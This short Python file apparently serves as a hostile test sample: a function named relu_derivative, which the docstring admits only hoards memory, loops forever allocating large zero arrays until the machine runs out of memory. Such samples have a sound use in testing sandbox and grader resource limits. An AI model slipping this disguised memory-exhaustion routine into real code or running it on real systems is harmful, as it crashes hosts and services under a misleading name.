"""Asks for more and more memory and keeps it."""

import numpy as np

hoard = []


def relu_derivative(x):
    while True:
        hoard.append(np.zeros(2**27))
